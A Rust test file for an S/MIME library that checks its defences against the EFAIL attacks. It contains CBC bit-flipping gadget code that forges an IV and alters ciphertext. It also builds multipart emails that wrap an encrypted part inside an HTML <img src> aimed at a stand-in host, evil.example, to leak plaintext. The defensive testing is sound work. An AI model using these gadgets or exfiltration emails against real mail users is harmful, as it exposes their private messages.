//! EFAIL (Poddebniak et al., USENIX Security 2018): CBC malleability gadgets and direct
//! exfiltration. CBC-only content must be reported unauthenticated, malleated content must stay
//! unauthenticated, and an encrypted part inside a multipart/mixed must never be decrypted and
//! spliced into the surrounding (attacker-controlled) parts.

use cachet::cms::cipher::ContentCipher;
use cachet::smime::envelope::{self, Layer};
use cachet::smime::VerifyOptions;
use cachet::{Identity, UnixTime};

use crate::common::{self, identity, MESSAGE};
use crate::support::{ciphertext, encrypt, iv, join, open, replace, split, types};

const LONG: &[u8] = b"From: Alice <alice@example.org>\r\n\
To: Bob <bob@example.org>\r\n\
Subject: Wire transfer\r\n\
Date: Tue, 01 Jan 2030 00:00:00 +0000\r\n\
\r\n\
Please wire 100 EUR to account 0000-1111-2222-3333 before Friday.\r\n\
Regards, Alice.\r\n";

#[test]
fn cbc_only_content_is_not_authenticated() {
    for cipher in [ContentCipher::Aes128Cbc, ContentCipher::Aes256Cbc] {
        let r = open(&encrypt(MESSAGE, "bob-rsa", cipher, false), "bob-rsa");
        assert_eq!(types(&r), ["enveloped"]);
        assert!(!r.authenticated, "CBC alone authenticates nothing");
        assert!(!r.signed_valid);
        assert!(r.content.ends_with(b"Hello Bob.\r\n"));
    }
    let r = open(
        &encrypt(MESSAGE, "bob-rsa", ContentCipher::Aes256Gcm, false),
        "bob-rsa",
    );
    assert!(r.authenticated, "control: GCM is authenticated");
}

/// Flip bits of the IV: the first plaintext block changes to what the attacker wants (the
/// known-plaintext `Content-Type: te` block is the classic EFAIL starting point), the rest is
/// untouched, and Cachet still decrypts it without noticing. It must say "not authenticated".
#[test]
fn iv_gadget_rewrites_the_first_block_and_stays_unauthenticated() {
    let enc = encrypt(LONG, "bob-rsa", ContentCipher::Aes256Cbc, false);
    let original = open(&enc, "bob-rsa").content;
    let (head, der) = split(&enc);
    let iv = iv(&der);
    let known = &original[..16];
    let chosen = b"X-Evil-Header: 1";
    let forged_iv: Vec<u8> = iv
        .iter()
        .zip(known)
        .zip(chosen)
        .map(|((v, k), c)| v ^ k ^ c)
        .collect();
    let forged = join(&head, &replace(&der, &iv, &forged_iv));
    let r = open(&forged, "bob-rsa");
    assert_eq!(types(&r), ["enveloped"]);
    assert_eq!(
        &r.content[..16],
        chosen,
        "the gadget works: CBC is malleable"
    );
    assert_eq!(r.content[16..], original[16..], "the rest is untouched");
    assert!(
        !r.authenticated,
        "malleated CBC content must not be authenticated"
    );
}

/// Flip a byte of ciphertext block i: block i decrypts to garbage, block i+1 changes exactly
/// at that byte. Still no error and still unauthenticated.
#[test]
fn ciphertext_block_gadget_changes_the_next_block() {
    let enc = encrypt(LONG, "bob-rsa", ContentCipher::Aes128Cbc, false);
    let (head, der) = split(&enc);
    let bob = identity("bob-rsa");
    // Compare the raw decrypted bytes: the garbage block may hold bare CR/LF, which the MIME
    // layer normalises, shifting later offsets.
    let raw = |der: &[u8]| {
        cachet::cms::envelope::decrypt(der, &[&bob], &mut common::rng())
            .unwrap()
            .content
            .to_vec()
    };
    let original = raw(&der);
    let ct = ciphertext(&der);
    assert!(ct.len() >= 16 * 6, "need blocks far from the padding");
    let (block, byte) = (4, 5);
    let mut bad = ct.clone();
    bad[block * 16 + byte] ^= 0x20;
    let forged_der = replace(&der, &ct, &bad);
    let changed_content = raw(&forged_der);
    let changed = (block + 1) * 16 + byte;
    assert_eq!(changed_content[changed], original[changed] ^ 0x20);
    assert_ne!(
        changed_content[block * 16..(block + 1) * 16],
        original[block * 16..(block + 1) * 16]
    );
    assert_eq!(
        changed_content[(block + 2) * 16..],
        original[(block + 2) * 16..]
    );
    let r = open(&join(&head, &forged_der), "bob-rsa");
    assert_eq!(types(&r), ["enveloped"], "CBC does not detect the change");
    assert!(!r.authenticated);
}

/// The same gadget against AES-GCM fails the tag: nothing is shown.
#[test]
fn gcm_rejects_the_gadget() {
    let enc = encrypt(LONG, "bob-rsa", ContentCipher::Aes256Gcm, false);
    let (head, der) = split(&enc);
    let ct = ciphertext(&der);
    let mut bad = ct.clone();
    bad[20] ^= 0x20;
    let r = open(&join(&head, &replace(&der, &ct, &bad)), "bob-rsa");
    assert!(matches!(
        r.layers[..],
        [Layer::Undecryptable {
            code: "DECRYPTION_FAILED"
        }]
    ));
    assert!(!r.authenticated);
    assert!(!String::from_utf8_lossy(&r.content).contains("wire"));
}

/// Direct exfiltration: the attacker wraps a captured ciphertext between two HTML parts that
/// open and close an `<img src="...` attribute. Cachet opens only top-level layers: the inner
/// encrypted part is not decrypted, so no plaintext lands inside the attacker's URL.
#[test]
fn encrypted_part_inside_multipart_mixed_is_not_decrypted() {
    let enc = encrypt(LONG, "bob-rsa", ContentCipher::Aes256Cbc, false);
    let (_, der) = split(&enc);
    let entity = format!(
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}",
        String::from_utf8(cachet::mime::base64_encode_lines(&der)).unwrap()
    );
    let attack = format!(
        "From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: Re: wire\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BOUNDARY\"\r\n\r\n\
         --BOUNDARY\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n\
         --BOUNDARY\r\n{entity}\r\n\
         --BOUNDARY\r\nContent-Type: text/html\r\n\r\n\">\r\n--BOUNDARY--\r\n"
    );
    let r = open(attack.as_bytes(), "bob-rsa");
    assert!(r.layers.is_empty(), "no layer: {:?}", types(&r));
    assert!(!r.authenticated && !r.signed_valid);
    let shown = String::from_utf8_lossy(&r.content);
    assert!(!shown.contains("wire 100 EUR"), "ciphertext was spliced in");
    assert!(shown.contains("application/pkcs7-mime"), "left as it was");
    // decrypt_message only decrypts a top-level application/pkcs7-mime.
    let bob = identity("bob-rsa");
    let err =
        envelope::decrypt_message(attack.as_bytes(), &[&bob], &mut common::rng()).unwrap_err();
    assert_eq!(err.code(), "NOT_ENCRYPTED");
}

/// HTML around a top-level encrypted message (a part before it in the same message is impossible
/// at top level): the encrypted layer is the whole message; nothing else is merged into it.
#[test]
fn html_around_a_signed_part_is_not_merged() {
    let alice = identity("alice-rsa");
    let signed = cachet::smime::sign_entity(
        b"Content-Type: text/plain\r\n\r\nsecret\r\n",
        &[&alice],
        &crate::support::sign_options(false),
        &mut common::rng(),
    )
    .unwrap();
    let attack = format!(
        "From: Alice <alice@example.org>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"B\"\r\n\r\n\
         --B\r\nContent-Type: text/html\r\n\r\n<a href=\"http://evil.example/?\r\n\
         --B\r\n{}\r\n--B\r\nContent-Type: text/html\r\n\r\n\">\r\n--B--\r\n",
        String::from_utf8(signed).unwrap()
    );
    let r = open(attack.as_bytes(), "bob-rsa");
    assert!(r.layers.is_empty());
    assert!(
        !r.signed_valid && !r.authenticated,
        "a signed part does not sign the whole"
    );
}

/// Thunderbird's corpus vector: a detached signature over a multipart/mixed that wraps an
/// enveloped-data part. The inner encryption is not top level, so it is not unwrapped.
#[test]
fn thunderbird_env_mixed_vector() {
    let msg =
        common::vector("corpus/thunderbird-nss/manual/alice.env.mixed.dsig.SHA256.multipart.eml");
    let bob = Identity::load(
        &common::vector("corpus/thunderbird-nss/keys/Bob.p12"),
        None,
        Some("nss"),
        &[],
    )
    .unwrap();
    let anchors = common::certs("corpus/thunderbird-nss/keys/TestCA.pem");
    let options = VerifyOptions {
        trust_anchors: &anchors,
        certificates: &[],
        crls: &[],
        time: UnixTime(1_769_904_000), // 2026-02-01
    };
    let r = envelope::open(&msg, &[&bob], &options, &mut common::rng()).unwrap();
    assert_eq!(
        types(&r),
        ["signed"],
        "the inner enveloped part is not a layer"
    );
    let Layer::Signed { signers, .. } = &r.layers[0] else {
        panic!()
    };
    assert_eq!(signers[0].status.as_str(), "content-altered");
    assert!(!r.authenticated && !r.signed_valid);
    let shown = String::from_utf8_lossy(&r.content);
    assert!(!shown.contains("This is a test message from Alice to Bob."));
}
